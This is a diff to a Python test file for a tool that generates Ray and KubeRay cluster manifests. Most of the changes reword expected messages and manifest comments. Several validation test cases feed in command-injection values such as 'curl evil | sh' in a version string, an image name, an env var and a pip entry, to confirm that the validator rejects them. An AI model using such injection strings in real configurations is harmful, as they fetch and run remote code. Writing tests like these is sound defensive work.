@@ -32,7 +32,7 @@ def pod(node_type, **options):
     return group(node_type, **options)["template"]["spec"]
 
 
-def test_the_text_is_as_people_write_it():
+def test_the_manifest_of_a_small_cluster():
     text = write_cluster(a_design(reasons=("12 trials at once need 3 nodes.",)))
 
     assert text == EXPECTED
@@ -42,29 +42,28 @@ def test_the_first_line_says_so_where_fewer_trials_run_at_once_than_wished():
     text = write_cluster(a_design(num_trials=100))
 
     assert text.startswith(
-        "# Written by tune-policies: a Ray cluster for 100 trials, of which 12 run at once: the others wait.\n"
+        "# Written by tune-policies: a Ray cluster for 100 trials (12 run at once, the others wait).\n"
     )
 
 
 EXPECTED = """\
 # Written by tune-policies: a Ray cluster for 12 trials.
 # 12 trials at once need 3 nodes.
-# A pod asks for all CPUs and all memory of its node type. If Kubernetes has less allocatable on the machine, the pod
-#   waits indefinitely.
-# A pod waits until Kubernetes has a node for it. With N as maxReplicas of a group: create a node pool for each group
+# A pod requests all CPUs and all memory of its node type. It stays pending indefinitely if less is allocatable on the
+#   machine.
+# Pods stay pending until Kubernetes adds nodes. With N as maxReplicas of a group: create a node pool for each group
 #   (gcloud container node-pools create POOL --enable-autoscaling --total-min-nodes 0 --total-max-nodes N …), or turn on
 #   node auto-provisioning.
-# Ray's images have neither tune-policies nor a framework such as torch: name an image that has both, or let your job's
-#   runtime environment bring them.
-# Pods without GPUs keep off nodes with GPUs, or they would take the room of workers there: where all your nodes have
-#   GPUs, take the affinity out.
-# Nodes with GPUs are selected by the labels of platform 'gke': on another, name that one.
-# Optional fields stand behind #: fill in those that you need, in each group.
+# Ray's images contain neither tune-policies nor a framework such as torch: use an image that contains both, or install
+#   them with your job's runtime environment.
+# An affinity prevents pods without GPUs from occupying nodes with GPUs: remove it if all your nodes have GPUs.
+# Nodes with GPUs are selected by the labels of platform 'gke': set yours if it differs.
+# Optional fields are commented out: complete those that you need, in each group.
 apiVersion: ray.io/v1
 kind: RayCluster
 metadata:
   # labels: {kueue.x-k8s.io/queue-name: trials}
-  # annotations: {kueue.x-k8s.io/elastic-job: "true"}  # or Kueue takes no cluster with an autoscaler
+  # annotations: {kueue.x-k8s.io/elastic-job: "true"}  # required by Kueue for clusters with an autoscaler
   name: tune
 spec:
   rayVersion: "2.60.0"
@@ -81,7 +80,7 @@ spec:
           cluster-autoscaler.kubernetes.io/safe-to-evict: "false"
           karpenter.sh/do-not-disrupt: "true"
       spec:
-        # serviceAccountName: tune  # one that there is, and that may read the data and write the results
+        # serviceAccountName: tune  # an existing account that can read the data and write the results
         # priorityClassName: batch
         restartPolicy: Never
         affinity:
@@ -108,7 +107,7 @@ spec:
               memory: "8Gi"
               ephemeral-storage: "10Gi"
           volumeMounts:
-          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs; with a bucket there is no need
+          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs, unless it is in a bucket
           - name: shared-memory
             mountPath: /dev/shm
         volumes:
@@ -133,7 +132,7 @@ spec:
           cluster-autoscaler.kubernetes.io/safe-to-evict: "false"
           karpenter.sh/do-not-disrupt: "true"
       spec:
-        # serviceAccountName: tune  # one that there is, and that may read the data and write the results
+        # serviceAccountName: tune  # an existing account that can read the data and write the results
         # priorityClassName: batch
         restartPolicy: Never
         nodeSelector:
@@ -158,7 +157,7 @@ spec:
               nvidia.com/gpu: "1"
               ephemeral-storage: "10Gi"
           volumeMounts:
-          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs; with a bucket there is no need
+          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs, unless it is in a bucket
           - name: shared-memory
             mountPath: /dev/shm
         volumes:
@@ -188,7 +187,7 @@ def test_a_job_starts_the_cluster_and_ends_it():
 def test_who_starts_a_job_is_told_to_keep_its_results_elsewhere(job):
     text = write_cluster(a_design(), WriteOptions(job=job, image="me/ray:1"))
 
-    assert ("# Nodes and their files go when the job has ended" in text) == (job is not None)
+    assert ("# Nodes and their files are deleted after the job" in text) == (job is not None)
 
 
 def test_a_job_brings_its_code_and_packages_by_its_runtime_environment():
@@ -454,27 +453,31 @@ NO_KEY = cpu_type(custom={"MBLT": 1})
         (
             a_design(name="t" * 48),
             {"job": "python x.py", "image": "me/ray:1"},
-            "48 characters, and a RayJob's may have 47",
+            "48 characters, but that of a RayJob can have at most 47",
         ),
-        (a_design(gpu_type(name="headgroup")), {}, "'headgroup' comes twice"),
-        (a_design(gpu_type(), gpu_type()), {"format": "cluster-yaml"}, "'l4' comes twice"),
-        (a_design(NO_KEY), {}, "name the key of your cluster as device_key"),
+        (a_design(gpu_type(name="headgroup")), {}, "'headgroup' is used twice"),
+        (a_design(gpu_type(), gpu_type()), {"format": "cluster-yaml"}, "'l4' is used twice"),
+        (a_design(NO_KEY), {}, "set device_key to that of your cluster"),
         (
             a_design(gpu_type(device_key="amd.com/gpu")),
             {},
             "has devices of NVIDIA GPU, but its device_key 'amd.com/gpu'",
         ),
-        (a_design(gpu_type(device_key="google.com/tpu")), {}, "counts those of Google TPU"),
-        (a_design(TPU_V2), {}, "knows TPU-V4, TPU-V5P"),
+        (a_design(gpu_type(device_key="google.com/tpu")), {}, "is for devices of Google TPU"),
+        (a_design(TPU_V2), {}, "only supports TPU-V4, TPU-V5P"),
         (a_design(cpu_type(custom={"TPU": 4})), {}, "TPUs of any type"),
         (
             a_design(cpu_type(custom={"TPU": 2}, accelerator_type="TPU-V6E")),
             {},
-            "one host with 2 chips; name the topology",
+            "one host with 2 chips: set the topology",
         ),
-        (a_design(cpu_type(custom={"vgpu": 2})), {}, "would take the resource 'vgpu' for Ray's own"),
-        (a_design(TPU_V7), {"ray_version": "2.50.0"}, "fails at a group of TPU-V7X, as 'cpu' is: take a newer Ray"),
-        (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"ray_version": "2.50.0"}, "take Ray 2.51 or newer"),
+        (a_design(cpu_type(custom={"vgpu": 2})), {}, "would interpret the custom resource 'vgpu' as Ray's own"),
+        (
+            a_design(TPU_V7),
+            {"ray_version": "2.50.0"},
+            "the group 'cpu' has TPU-V7X, which the autoscaler of Ray 2.50.0 does not support",
+        ),
+        (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"ray_version": "2.50.0"}, "use Ray 2.51 or newer"),
     ],
 )
 def test_what_could_not_run_is_refused(plan, options, says):
@@ -484,7 +487,7 @@ def test_what_could_not_run_is_refused(plan, options, says):
 
 @pytest.mark.parametrize(
     ("form", "says"),
-    [("kuberay", "there cannot be 3"), ("cluster-yaml", "launcher does not do")],
+    [("kuberay", "cannot have 3 nodes: use a multiple of 2"), ("cluster-yaml", "launcher does not support")],
 )
 def test_nodes_that_come_several_at_once_come_in_multiples_and_only_on_kubernetes(form, says):
     plan = a_design(groups=(DesignedGroup(node_type=gpu_type(), max_nodes=3, num_hosts=2),))
@@ -496,26 +499,26 @@ def test_nodes_that_come_several_at_once_come_in_multiples_and_only_on_kubernete
 @pytest.mark.parametrize(
     ("fields", "says"),
     [
-        ({"ray_version": "latest"}, "ray_version must be a version in full, such as 2.60.0"),
-        ({"ray_version": "2.60"}, "in full"),
-        ({"ray_version": "2.44.1"}, "2.50.0 or newer, as plans need it, got 2.44.1"),
-        ({"ray_version": "2.60.0\n"}, "in full"),
-        ({"ray_version": '2.60.0" ; curl evil | sh ; "'}, "in full"),
-        ({"ray_version": "\uff12.60.0"}, "in full"),
-        ({"format": "cluster-yaml", "job": "python x.py"}, "a job is written as format 'kuberay' only"),
-        ({"format": "cluster-yaml", "namespace": "ml"}, "a namespace is written as format 'kuberay' only"),
-        ({"namespace": "Ml\n"}, "namespace 'Ml.n' must have small letters"),
-        ({"job": "python x.py"}, "name an image that has both, or a runtime environment"),
-        ({"runtime_env": {"pip": ["torch"]}}, "a runtime environment is a job's"),
-        ({"job": "x", "runtime_env": {"working_dir": "."}}, "'.', which is not on the cluster: pack it"),
-        ({"job": "x", "runtime_env": {"py_modules": ["my_module"]}}, "'my_module', which is not on the cluster"),
-        ({"job": "x", "runtime_env": {"env_vars": {"A": "$(curl evil)"}}}, "KubeRay's shell would run"),
-        ({"job": "x", "runtime_env": {"pip": ["`curl evil`"]}}, "KubeRay's shell would run"),
+        ({"ray_version": "latest"}, "ray_version must be a full version such as 2.60.0"),
+        ({"ray_version": "2.60"}, "a full version"),
+        ({"ray_version": "2.44.1"}, "2.50.0 or newer, got 2.44.1"),
+        ({"ray_version": "2.60.0\n"}, "a full version"),
+        ({"ray_version": '2.60.0" ; curl evil | sh ; "'}, "a full version"),
+        ({"ray_version": "\uff12.60.0"}, "a full version"),
+        ({"format": "cluster-yaml", "job": "python x.py"}, "job requires format 'kuberay'"),
+        ({"format": "cluster-yaml", "namespace": "ml"}, "namespace requires format 'kuberay'"),
+        ({"namespace": "Ml\n"}, "namespace 'Ml.n' is not valid: use at most 63"),
+        ({"job": "python x.py"}, "set image, or runtime_env"),
+        ({"runtime_env": {"pip": ["torch"]}}, "runtime_env requires a job"),
+        ({"job": "x", "runtime_env": {"working_dir": "."}}, "'.', which the cluster cannot read"),
+        ({"job": "x", "runtime_env": {"py_modules": ["my_module"]}}, "'my_module', which the cluster cannot read"),
+        ({"job": "x", "runtime_env": {"env_vars": {"A": "$(curl evil)"}}}, "KubeRay's shell interprets"),
+        ({"job": "x", "runtime_env": {"pip": ["`curl evil`"]}}, "KubeRay's shell interprets"),
         ({"image": ""}, "image"),
-        ({"image": "me/ray:1; curl evil | sh"}, "does not name a container image"),
-        ({"image": "me/ray:1\n"}, "does not name a container image"),
+        ({"image": "me/ray:1; curl evil | sh"}, "is not a container image"),
+        ({"image": "me/ray:1\n"}, "is not a container image"),
         ({"platform": "iks"}, "platform"),
-        ({"num_gpus": True, "format": "cluster-yaml"}, "states the GPUs of each node anyway"),
+        ({"num_gpus": True, "format": "cluster-yaml"}, "always contains the GPUs"),
     ],
 )
 def test_wrong_options_are_named(fields, says):
@@ -542,14 +545,14 @@ def test_the_launcher_installs_the_same_ray_or_runs_the_image():
 def test_devices_that_rays_images_cannot_use_are_told(node_type, options, expected):
     text = write_cluster(a_design(node_type), WriteOptions(**options))
 
-    assert ("# Ray's images have no software for Intel Gaudi: name an image that has it." in text) == expected
+    assert ("# Ray's images have no software for Intel Gaudi: use an image that contains it." in text) == expected
 
 
 @pytest.mark.parametrize("image", [None, "me/ray:1"])
 def test_what_rays_own_image_lacks_is_told(image):
     text = write_cluster(a_design(), WriteOptions(image=image))
 
-    assert ("# Ray's images have neither tune-policies nor a framework" in text) == (image is None)
+    assert ("# Ray's images contain neither tune-policies nor a framework" in text) == (image is None)
 
 
 @pytest.mark.parametrize(
@@ -580,4 +583,4 @@ def test_groups_that_select_the_same_nodes_are_told(labels, expected):
 def test_a_device_type_that_kubernetes_cannot_tell_is_said(fields, platform, expected):
     text = write_cluster(a_design(gpu_type(**fields)), WriteOptions(platform=platform))
 
-    assert ("# Nothing tells Kubernetes which nodes have L4" in text) == expected
+    assert ("# No label selects the nodes with L4" in text) == expected
